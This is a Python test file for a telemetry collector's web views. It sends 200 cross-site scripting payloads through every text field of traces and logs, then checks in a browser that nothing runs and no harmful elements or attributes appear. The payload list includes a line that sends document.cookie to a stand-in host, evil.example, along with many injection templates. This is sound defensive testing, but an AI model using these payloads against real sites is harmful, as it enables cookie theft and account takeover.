"""What comes with the data is text, whatever it says."""

from __future__ import annotations

import itertools

from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.trace.v1.trace_pb2 import Span, Status

from tests.collector.page.visits import Visitor
from tests.collector.running import BASE, Collector

CODE = ("window.ran=1", "alert(1)", "fetch('//evil.example/'+document.cookie)", "top.location='//evil.example'")
WAYS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg/onload={}>',
    "'><body onload={}>",
    "javascript:{}",
    "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=//evil.example onload={}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<style>@import '//evil.example/{}'</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data=javascript:{}>",
    "<embed src=//evil.example/{}>",
    "<form action=//evil.example/{}><input type=submit autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'>",
    "<img src=//evil.example/{}.png>",
    "url(//evil.example/{})",
    "expression({})",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "`${{{}}}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "\u202e<script>{}</script>",
    "\x00<script>{}</script>",
    "<scr\nipt>{}</scr\nipt>",
    "<SCRIPT SRC=//evil.example/{}.js></SCRIPT>",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "<x contenteditable onblur={} autofocus>lose focus",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xss style=behavior:url(//evil.example/{})>",
    "'-{}-'",
    '";{};//',
    "__proto__[{}]",
)
PAYLOADS = [way.replace("{}", code) for way, code in itertools.product(WAYS, CODE)]
KINDS = (Span.SPAN_KIND_SERVER, Span.SPAN_KIND_CLIENT, Span.SPAN_KIND_INTERNAL, Span.SPAN_KIND_CONSUMER)
TRACE = (77).to_bytes(16, "big")
ALLOWED = """(within) => { const all = (what) => [...document.querySelectorAll(`${within} ${what}`)]; return [
    window.ran === undefined,
    all(":is(script, iframe, object, embed, base, form[action], video, audio, meta, link, img)").length === 0,
    all("*").every((each) => [...each.attributes].every(({name}) => !name.startsWith("on"))),
    all("a").every((each) => /^\\/(?!\\/)/.test(each.getAttribute("href"))),
]; }"""
FINE = [True] * 4
VIEWS = (
    "/?kind=all",
    "/map",
    "/search",
    "/hops",
    "/errors",
    "/broken",
    f"/compare?a={TRACE.hex()}&b={TRACE.hex()}",
)
# What is in a tab of a trace once it is there.
FILLED = "table, .logs, .row"
# Walks through the spans below the root, shows the details of each, and says what is there then.
SELECT_EACH = """() => {
    const rows = document.querySelector('[role="treegrid"]'), count = Number(rows.getAttribute("aria-rowcount"));
    const press = (key) => rows.dispatchEvent(new KeyboardEvent("keydown", {key, bubbles: true}));
    return Array.from({length: count - 1}, () => {
        press("ArrowDown");
        press("Enter");
        return [document.querySelector(".panel h2").textContent, (@)(".panel")];
    });
}""".replace("@", ALLOWED)


def test_200_payloads_in_every_field_run_nothing_and_reach_nobody(visitor: Visitor) -> None:
    assert len(set(PAYLOADS)) == 200
    with Collector() as collector:
        assert collector.send(attack().SerializeToString()).status == 200
        assert collector.send(attack_by_logs().SerializeToString(), "logs").status == 200
        with visitor.at(collector.query, VIEWS[0]) as page:
            for path in VIEWS:
                page.goto(f"http://{collector.query}{path}")
                page.wait_for_selector("main :is(table, .traces, .cards, .empty)")
                assert page.evaluate(ALLOWED, "main") == FINE, path
            page.goto(f"http://{collector.query}/trace/{TRACE.hex()}")
            for tab in ("Hops", "Map", "Logs", "Timeline"):
                page.get_by_role("tab", name=tab).click()
                page.wait_for_selector(f'[role="tabpanel"]:not([hidden]) :is({FILLED})')
                assert page.evaluate(ALLOWED, "main") == FINE, tab
            shown = page.evaluate(SELECT_EACH)
            assert [heading for heading, _ in shown] == PAYLOADS
            assert all(fine == FINE for _, fine in shown)
            # To the root lead links from all of them.
            page.goto(f"http://{collector.query}/trace/{TRACE.hex()}?span={1:016x}")
            page.wait_for_selector(".panel .links li")
            assert page.evaluate(ALLOWED, "main") == FINE


def attack() -> ExportTraceServiceRequest:
    """A root, and below it a span for each payload, which stands wherever the protocol has text."""
    message = ExportTraceServiceRequest()
    root = message.resource_spans.add().scope_spans.add().spans.add(name="root", span_id=(1).to_bytes(8, "big"))
    root.trace_id, root.kind = TRACE, Span.SPAN_KIND_SERVER
    root.start_time_unix_nano, root.end_time_unix_nano = BASE, BASE + 10**9
    for number, payload in enumerate(PAYLOADS, start=2):
        resource = message.resource_spans.add()
        for key in ("service.name", payload):
            resource.resource.attributes.add(key=key).value.string_value = payload
        scope = resource.scope_spans.add()
        scope.scope.name, scope.scope.version = payload, payload
        span = scope.spans.add(name=payload, trace_id=TRACE, span_id=number.to_bytes(8, "big"), trace_state=payload)
        span.parent_span_id, span.kind = root.span_id, KINDS[number % len(KINDS)]
        span.start_time_unix_nano = BASE + number * 10**6
        span.end_time_unix_nano = span.start_time_unix_nano + 10**6
        span.status.code, span.status.message = Status.STATUS_CODE_ERROR, payload
        for key in (payload, "server.address", "url.full", "error.type", "db.system.name", "service.peer.name"):
            span.attributes.add(key=key).value.string_value = payload
        span.attributes.add(key="list").value.array_value.values.add().string_value = payload
        for name in (payload, "exception"):
            event = span.events.add(name=name, time_unix_nano=span.end_time_unix_nano)
            for key in (payload, "exception.type", "exception.message", "exception.stacktrace"):
                event.attributes.add(key=key).value.string_value = payload
        link = span.links.add(trace_id=TRACE, span_id=root.span_id, trace_state=payload)
        link.attributes.add(key=payload).value.string_value = payload
    return message


def attack_by_logs() -> ExportLogsServiceRequest:
    """A log record for each payload."""
    message = ExportLogsServiceRequest()
    for number, payload in enumerate(PAYLOADS, start=2):
        resource = message.resource_logs.add()
        resource.resource.attributes.add(key="service.name").value.string_value = payload
        record = resource.scope_logs.add().log_records.add(trace_id=TRACE, span_id=number.to_bytes(8, "big"))
        record.time_unix_nano, record.severity_text = BASE + number * 10**6, payload
        record.body.string_value = payload
        record.attributes.add(key=payload).value.string_value = payload
    return message
